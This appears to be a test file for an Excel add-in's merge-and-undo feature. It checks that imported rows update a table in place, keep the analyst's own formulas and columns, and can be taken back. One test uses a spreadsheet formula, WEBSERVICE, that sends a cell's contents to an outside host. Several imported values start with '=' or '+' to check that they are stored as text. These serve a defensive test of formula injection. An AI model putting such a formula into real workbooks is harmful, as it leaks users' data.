/// <reference types="office-js" />
/** Merging a file into an existing table: what changes, what stays, and undo. */
import { schemaDrift, type MergeWords } from "../../src/file-reader/merge-plan";
import type { CellValue } from "../../src/file-reader/packed-rows";
import { sheetColumn } from "../../src/file-reader/sheet-column";
import { readRecords } from "../../src/features/import/sheet/import-records";
import { UnfinishedImportError } from "../../src/features/import/sheet/import-requests";
import { undoMerge } from "../../src/features/import/sheet/merge-undo";
import { ensureCompSet } from "../../src/host/comp-set-tables";
import { listTables, readTable } from "../../src/features/import/sheet/table-content";
import { OccupiedCellsError } from "../../src/features/import/sheet/table-landing";
import { mergeIntoTable, type MergeJob } from "../../src/features/import/sheet/table-merge";
import { createWorkbookImports } from "../../src/features/import/sheet/workbook-imports";
import { createCallFaults } from "../engine/answers/call-faults";
import { batches, createImportedWorkbook, formatCellsAround, importFacts, slowPace } from "./imported-workbook";
import { requestsUnderFaults, sheetWriters, writesUnderFaults } from "./request-faults";
import { filterRows } from "./filtered-sheet";
import { isLong, isOfPart } from "../seeds";

const opened = createImportedWorkbook();
const { run, read, image } = opened;

/** A table of three properties with the analyst's own column, formulas next to it, and a model that reads it. */
beforeEach(() =>
  opened.open((_, sheet) => {
    sheet.getRange("B3:B6").numberFormat = [["@"], ["@"], ["@"], ["@"]];
    sheet.getRange("B3:F3").values = [["Id", "name", "per unit", "rent", "units"]];
    sheet.getRange("B4:C6").values = [
      ["01", "Alder"],
      ["02", "'=Birch"],
      ["03", "Cedar"],
    ];
    sheet.getRange("E4:F6").values = [
      [1_500, 10],
      [1_700, 20],
      [1_900, 30],
    ];
    sheet.getRange("E4:E6").numberFormat = [["$#,##0"], ["$#,##0"], ["$#,##0"]];
    formatCellsAround(sheet);
    const table = sheet.tables.add("B3:F6", true);
    table.name = "Rents";
    sheet.getRange("D4:D6").formulas = [["=Rents[@rent]/Rents[@units]"], ["=E5/F5"], ["=E6/F6"]];
    sheet.getRange("F6").formulas = [["=10*3"]];
    sheet.getRange("I4").formulas = [["=E4*12"]];
  }),
);
afterEach(() => opened.close());

const columns = [
  sheetColumn("id", "text", ["01"]),
  sheetColumn("name", "text", ["Alder"]),
  sheetColumn("rent", "number", ["1500"]),
  sheetColumn("units", "number", ["10"]),
  sheetColumn("pool", "boolean", []),
];
const file: CellValue[][] = [
  ["03", "Cedar", 1_850, 31, true],
  ["04", "+Dogwood", 2_000, 40, false],
  ["01", "'Alder", 1_500, 10, true],
  ["", "nobody", 1, 1, true],
  ["04", "twice", 1, 1, true],
  ["5", "=Elm", 2_100, 50, false],
];
const marks: MergeWords = { column: "Import status", added: "new 2026-01-31", gone: "gone since 2026-01-31" };

const batch = (rows: readonly CellValue[][]) => batches(rows, 4);
const job = (given: Partial<MergeJob> = {}): MergeJob => ({
  facts: importFacts,
  table: "Rents",
  columns,
  rows: batch(file),
  key: "id",
  marks,
  ...given,
});
const pace = slowPace();

test("a filtered table is neither merged into nor restored: Excel would put rows into the wrong places", async () => {
  const imports = createWorkbookImports(pace);
  const before = await opened.image();
  filterRows(opened.workbook, "Sheet1", [4]);
  const refusal = "A filter hides rows of the worksheet Sheet1. Clear it (Data > Clear), then try again.";
  await expect(imports.merge(job())).rejects.toThrow(refusal);
  await expect(
    imports.replace({ facts: importFacts, table: "Rents", columns, rows: batch(file), expected: 6 }),
  ).rejects.toThrow(refusal);
  expect(await opened.image()).toEqual(before);
  filterRows(opened.workbook, "Sheet1", [4], false);
  const { record } = await imports.merge(job());
  filterRows(opened.workbook, "Sheet1", [4]);
  await expect(imports.takeBack(record.id)).rejects.toThrow(refusal);
  filterRows(opened.workbook, "Sheet1", [4], false);
  await imports.takeBack(record.id);
  expect(await read("Sheet1", "B3:B8")).toEqual([["Id"], ["01"], ["02"], ["03"], [""], [""]]);
});

test("values are updated in place; own columns and formulas stay; new and vanished rows are marked", async () => {
  const { plan, record, table } = await mergeIntoTable(job({ leftOut: () => 1 }), pace);
  expect(await read("Sheet1", "B3:G8", "formulas")).toEqual([
    ["Id", "name", "per unit", "rent", "units", "Import status"],
    ["01", "'Alder", "=Rents[@rent]/Rents[@units]", 1_500, 10, ""],
    ["02", "=Birch", "=E5/F5", 1_700, 20, "gone since 2026-01-31"],
    ["03", "Cedar", "=E6/F6", 1_850, "=10*3", ""],
    ["04", "+Dogwood", "=E7/F7", 2_000, 40, "new 2026-01-31"],
    ["5", "=Elm", "=E8/F8", 2_100, 50, "new 2026-01-31"],
  ]);
  expect(await read("Sheet1", "B8:E8", "numberFormat")).toEqual([["@", "General", "General", "$#,##0"]]);
  expect(await read("Sheet1", "D7:D8")).toEqual([[50], [42]]);
  expect(await read("Sheet1", "I4:I5", "formulas")).toEqual([["=E4*12"], [""]]);
  // The model reads the table by its name.
  expect(await read("Model", "A1:A2")).toEqual([[9_150], [5]]);
  expect(plan).toMatchObject({ vanished: [1], unchanged: 0, formulasKept: 1, withoutId: 1, repeated: 1 });
  expect(plan.updates.map(({ row, column, before, after }) => [row, column, before, after])).toEqual([
    [0, 1, "Alder", "'Alder"],
    [2, 3, 1_900, 1_850],
  ]);
  expect(record).toMatchObject({ kind: "merge", state: "done", rows: 4, leftOut: 3, key: "id" });
  expect(schemaDrift(table, columns, null)).toEqual({ added: ["pool"], gone: [], changed: [] });
  expect(await run(readRecords)).toEqual([record]);
});

test("a second merge of the same file changes nothing but the marks", async () => {
  await mergeIntoTable(job(), pace);
  const later = { ...marks, added: "new 2026-03-01", gone: "gone since 2026-03-01" };
  const facts = { ...job().facts, id: "import-2" };
  const { plan } = await mergeIntoTable(job({ facts, rows: batch(file), marks: later }), pace);
  expect(plan).toMatchObject({ updates: [], newRows: [], vanished: [1] });
  // Gone since it was first missed; no longer new.
  expect(await read("Sheet1", "G4:G8")).toEqual([[""], ["gone since 2026-01-31"], [""], [""], [""]]);
});

test("a column of notes where the marks go is said to be in the way of them only", async () => {
  await run(async (context) => {
    context.workbook.worksheets.getItem("Sheet1").getRange("G3:G4").values = [["Notes"], ["call back"]];
    await context.sync();
  });
  const before = await image();
  await expect(mergeIntoTable(job(), pace)).rejects.toMatchObject({ name: "OccupiedCellsError", isOfMarks: true });
  expect(await image()).toEqual(before);
  await run(async (context) => {
    context.workbook.worksheets.getItem("Sheet1").getRange("B9").values = [["below"]];
    await context.sync();
  });
  await expect(mergeIntoTable(job({ rows: batch([...file, ["6", "Fir", 1, 1, true], ["7", "Gum", 1, 1, true]]) }), pace)).rejects.toMatchObject({ isOfMarks: false }); // prettier-ignore
});

test("without a key all rows are added below", async () => {
  const before = await image();
  const { record } = await mergeIntoTable(job({ key: null, marks: null, rows: batch(file.slice(0, 2)) }), pace);
  expect(await read("Sheet1", "B7:F8")).toEqual([
    ["03", "Cedar", 1_850 / 31, 1_850, 31],
    ["04", "+Dogwood", 50, 2_000, 40],
  ]);
  expect(record).toMatchObject({ kind: "append", rows: 2, key: null });
  expect(await undoMerge(record, mergeOf(record), pace)).toMatchObject({ rowsRemoved: 2, rowsKept: 0 });
  expect(await image()).toEqual(before);
});

const mergeOf = (record: { readonly before: unknown }) => {
  const { before } = record as Awaited<ReturnType<typeof readRecords>>[number];
  if (before?.kind !== "merge") throw new Error("no merge");
  return before.merge;
};

test("a record's old value that looks like a formula comes back as a text", async () => {
  const { record } = await mergeIntoTable(job({ marks: null }), pace);
  const merge = mergeOf(record);
  const evil = '=WEBSERVICE("https://example.com/?"&A1)';
  const changes = merge.changes.map(([id, column, , after]) => [id, column, evil, after] as const);
  expect(changes.length).toBeGreaterThan(0);
  await undoMerge(record, { ...merge, changes }, pace);
  const cells = (await read("Sheet1", "A1:I9", "formulas")).flat();
  expect(cells.filter((cell) => String(cell) === evil)).toHaveLength(changes.length);
  // A cell with a formula has another value.
  expect((await read("Sheet1", "A1:I9")).flat().filter((value) => value === evil)).toHaveLength(changes.length);
});

test("several columns are the id together, also on the way back; the record reads as before", async () => {
  const before = await image();
  const rows: CellValue[][] = [
    ["03", "Cedar", 1_850, 31, true],
    ["03", "Cedar II", 2_000, 40, true],
    ["02", "=Birch", 1_650, 20, true],
  ];
  const { plan } = await mergeIntoTable(job({ key: ["id", "name"], marks: null, rows: batch(rows) }), pace);
  expect(plan).toMatchObject({ vanished: [0], unchanged: 0, repeated: 0 });
  expect(await read("Sheet1", "B4:E7")).toMatchObject([
    ["01", "Alder", 150, 1_500],
    ["02", "=Birch", 82.5, 1_650],
    ["03", "Cedar", 1_850 / 30, 1_850],
    ["03", "Cedar II", 50, 2_000],
  ]);
  await opened.workbook.settled();
  await opened.open(opened.workbook.save());
  const [record] = await run(readRecords);
  if (record === undefined) throw new Error("no record");
  expect(record).toMatchObject({ key: "id, name", before: { merge: { key: "id, name", keys: ["id", "name"] } } });
  expect(await undoMerge(record, mergeOf(record), pace)).toMatchObject({ cells: 2, cellsKept: 0, rowsRemoved: 1 });
  await opened.workbook.settled();
  expect(await image()).toEqual(before);
});

test("a record of one id, as it has always been written, is read and taken back", async () => {
  const before = await image();
  const { record } = await mergeIntoTable(job({ marks: null }), pace);
  const merge = mergeOf(record);
  expect(merge).not.toHaveProperty("keys");
  expect(merge).toMatchObject({
    key: "id",
    changes: [
      ["01", "name", "Alder", "'Alder"],
      ["03", "rent", 1_900, 1_850],
    ],
  });
  expect(merge.newIds).toEqual(["04", "5"]);
  await undoMerge(record, merge, pace);
  expect(await image()).toEqual(before);
});

test("it is taken back after saving and opening, and keeps what was changed since", async () => {
  const before = await image();
  await mergeIntoTable(job(), pace);
  await opened.workbook.settled();
  await opened.open(opened.workbook.save());
  const [record] = await run(readRecords);
  if (record === undefined) throw new Error("no record");
  const untouched = opened.workbook.save();
  expect(await undoMerge(record, mergeOf(record), pace)).toEqual({
    cells: 2,
    cellsKept: 0,
    rowsRemoved: 2,
    rowsKept: 0,
  });
  await opened.workbook.settled();
  expect(await image()).toEqual(before);

  await opened.open(untouched);
  // Another rent by hand, and the table sorted: the last rows are others.
  await run(async (context) => {
    const sheet = context.workbook.worksheets.getItem("Sheet1");
    sheet.getRange("E6").values = [[1_234]];
    sheet.getRange("B8").values = [["05"]];
    await context.sync();
  });
  expect(await undoMerge(record, mergeOf(record), pace)).toEqual({
    cells: 1,
    cellsKept: 1,
    rowsRemoved: 0,
    rowsKept: 2,
  });
  expect(await read("Sheet1", "C4")).toEqual([["Alder"]]);
  expect(await read("Sheet1", "E6")).toEqual([[1_234]]);
});

test("what stands below or beside the table is not written over", async () => {
  for (const cell of ["C8", "G5"]) {
    opened.workbook.setCell(cell, "in the way");
    await opened.workbook.settled();
    const before = await image();
    await expect(mergeIntoTable(job({ rows: batch(file) }), pace)).rejects.toBeInstanceOf(OccupiedCellsError);
    expect(await image()).toEqual(before);
    opened.workbook.setCell(cell, "");
    await opened.workbook.settled();
  }
  opened.workbook.setCell("G5", "in the way");
  expect((await mergeIntoTable(job({ marks: null }), pace)).plan.marks).toBeNull();
});

test("ids that stand twice in the table tell no rows apart", async () => {
  opened.workbook.setCell("B6", "02");
  await opened.workbook.settled();
  const before = await image();
  await expect(mergeIntoTable(job(), pace)).rejects.toMatchObject({ name: "AmbiguousKeyError", id: "02" });
  expect(await image()).toEqual(before);
});

test("cancelling leaves all as it was", async () => {
  const before = await image();
  for (const phase of ["read", "write"] as const) {
    const abort = new AbortController();
    const cancelled = mergeIntoTable(
      job({
        rows: batch(file),
        signal: abort.signal,
        onProgress: (at) => {
          if (at === phase) abort.abort(new Error("Cancelled."));
        },
      }),
      pace,
    );
    await expect(cancelled).rejects.toThrow("Cancelled.");
    expect(await image()).toEqual(before);
  }
});

test.each([false, true])(
  "the Nth request fails, for ever: %p; nothing changes, or it can be taken back",
  async (isForEver) => {
    const before = await image();
    const faults = createCallFaults();
    let failures = 0;
    for (let call = 1; ; call += 1) {
      if (!isOfPart(call, 2)) continue;
      opened.through(requestsUnderFaults(opened.workbook.excel, faults));
      faults.start(call, { when: call % 2 === 0 ? "before it is done" : "after it was done", isForEver });
      const outcome: unknown = await mergeIntoTable(job({ rows: batch(file) }), pace).catch((error: unknown) => error);
      const hasFailed = faults.stop();
      opened.through(opened.workbook.excel);
      if (!hasFailed) break;
      if (outcome instanceof Error) failures += 1;
      const [record] = await run(readRecords);
      if (outcome instanceof UnfinishedImportError) {
        // By what the workbook itself knows, as after Excel was closed; what it does not know was not begun.
        if (record !== undefined) await undoMerge(record, mergeOf(record), pace);
      } else if (record !== undefined) {
        expect(outcome).not.toBeInstanceOf(Error);
        await undoMerge(record, mergeOf(record), pace);
      }
      expect(await image()).toEqual(before);
    }
    expect(failures).toBeGreaterThan(isLong ? 7 : 2);
  },
);

/** The table with the file merged into it, and the column that it lacked. */
const withAddedColumns = [
  ["Id", "name", "per unit", "rent", "units", "pool", "Import status"],
  ["01", "'Alder", 150, 1_500, 10, true, ""],
  ["02", "=Birch", 85, 1_700, 20, "", "gone since 2026-01-31"],
  ["03", "Cedar", 1_850 / 30, 1_850, 30, true, ""],
  ["04", "+Dogwood", expect.anything(), 2_000, 40, false, "new 2026-01-31"],
  ["5", "=Elm", expect.anything(), 2_100, 50, false, "new 2026-01-31"],
];

test("columns that the table lacks are added at its right where it is wished, and go again", async () => {
  const before = await image();
  const { record } = await mergeIntoTable(job({ addsColumns: true }), pace);
  expect(await read("Sheet1", "B3:H8", "values")).toEqual(withAddedColumns);
  await undoMerge(record, mergeOf(record), pace);
  expect(await image()).toEqual(before);
});

test("texts that look like errors stay texts", async () => {
  const rows: CellValue[][] = [
    ["01", "#REF!", 1_500, 10, true],
    ["02", "#SPILL!", 1_700, 20, true],
    ["06", "#N/A", 1, 1, true],
  ];
  await mergeIntoTable(job({ rows: batch(rows), marks: null }), pace);
  expect(await read("Sheet1", "C4:C7")).toEqual([["#REF!"], ["#SPILL!"], ["Cedar"], ["#N/A"]]);
});

test("numbers that come into cells with the format Text are the texts that stand there, and go again", async () => {
  await run(async (context) => {
    const sheet = context.workbook.worksheets.getItem("Sheet1");
    sheet.getRange("C4:C6").numberFormat = [["@"], ["@"], ["@"]];
    sheet.getRange("C4:C6").values = [["78704"], ["78705"], ["78706"]];
    await context.sync();
  });
  const before = await image();
  const numbers = [columns[0], sheetColumn("name", "number", ["78704"])].flatMap((column) => column ?? []);
  const rows: CellValue[][] = [
    ["01", 78_704],
    ["02", 78_799],
    ["03", 78_706],
    ["04", 78_707],
  ];
  const { record, plan } = await mergeIntoTable(job({ columns: numbers, rows: batch(rows), marks: null }), pace);
  expect(plan.updates).toEqual([{ row: 1, column: 1, before: "78705", after: "78799" }]);
  expect(await read("Sheet1", "C4:C7")).toEqual([["78704"], ["78799"], ["78706"], ["78707"]]);
  expect(await undoMerge(record, mergeOf(record), pace)).toEqual({
    ...{ cells: 1, cellsKept: 0 },
    ...{ rowsRemoved: 1, rowsKept: 0 },
  });
  expect(await image()).toEqual(before);
});

test("columns are added to a table whose first column calculates", async () => {
  await run(async (context) => {
    const sheet = context.workbook.worksheets.getItem("Sheet1");
    context.workbook.tables.getItem("Rents").resize(sheet.getRange("A3:F6"));
    sheet.getRange("A3:A6").formulas = [["label"], ['="unit "&B4'], ['="unit "&B5'], ['="unit "&B6']];
    await context.sync();
  });
  const before = await image();
  const { record } = await mergeIntoTable(job({ addsColumns: true, marks: null }), pace);
  expect(await read("Sheet1", "G3:G8")).toEqual([["pool"], [true], [""], [true], [false], [false]]);
  await undoMerge(record, mergeOf(record), pace);
  expect(await image()).toEqual(before);
});

test("what stands where a column would come is not written over", async () => {
  await run(async (context) => {
    context.workbook.worksheets.getItem("Sheet1").getRange("G5").values = [["mine"]];
    await context.sync();
  });
  const before = await image();
  await expect(mergeIntoTable(job({ addsColumns: true, marks: null }), pace)).rejects.toBeInstanceOf(
    OccupiedCellsError,
  );
  expect(await image()).toEqual(before);
});

test("the workbook's tables, and one that is gone", async () => {
  expect(await listTables()).toEqual([
    { name: "Rents", sheet: "Sheet1", columns: ["Id", "name", "per unit", "rent", "units"], rows: 3 },
  ]);
  // The set of comps is the add-in's own.
  await ensureCompSet("en");
  expect((await listTables()).map(({ name }) => name)).toEqual(["Rents"]);
  await expect(readTable("Gone")).rejects.toMatchObject({ name: "MissingTableError" });
});

test("cells below and beside the table may have the format Text, as whole columns have it", async () => {
  await run(async (context) => {
    const sheet = context.workbook.worksheets.getItem("Sheet1");
    sheet.getRange("B7:H10").numberFormat = Array.from({ length: 4 }, () => Array<string>(7).fill("@"));
    sheet.getRange("G3:H6").numberFormat = Array.from({ length: 4 }, () => ["@", "@"]);
    await context.sync();
  });
  await mergeIntoTable(job({ addsColumns: true }), pace);
  expect(await read("Sheet1", "B3:H8", "values")).toEqual(withAddedColumns);
});

test("rows added to an empty table look as its one row does", async () => {
  await run(async (context) => {
    context.workbook.worksheets.getItem("Sheet1").getRange("B4:F6").clear("Contents");
    await context.sync();
  });
  const before = await image();
  const { record } = await mergeIntoTable(job({ key: null, marks: null, rows: batch(file.slice(0, 2)) }), pace);
  expect(await read("Sheet1", "B4:F5")).toEqual([
    ["03", "Cedar", "", 1_850, 31],
    ["04", "+Dogwood", "", 2_000, 40],
  ]);
  expect(await read("Sheet1", "B5:E5", "numberFormat")).toEqual([["@", "General", "General", "$#,##0"]]);
  await undoMerge(record, mergeOf(record), pace);
  expect(await read("Sheet1", "B3:F6", "formulas")).toEqual(
    (before as { sheet: unknown[][] }).sheet.slice(2, 6).map((row) => row.slice(1, 6)),
  );
});

test("a protected sheet refuses it before anything is on record", async () => {
  const before = await image();
  let isProtected = true;
  writesUnderFaults(opened.workbook.excel, () => isProtected, sheetWriters);
  const outcome: unknown = await mergeIntoTable(job(), pace).catch((error: unknown) => error);
  isProtected = false;
  // The host\'s own reason, and no import that is left unfinished.
  expect(outcome).toMatchObject({ code: "ItemNotFound" });
  expect(await image()).toEqual(before);
});
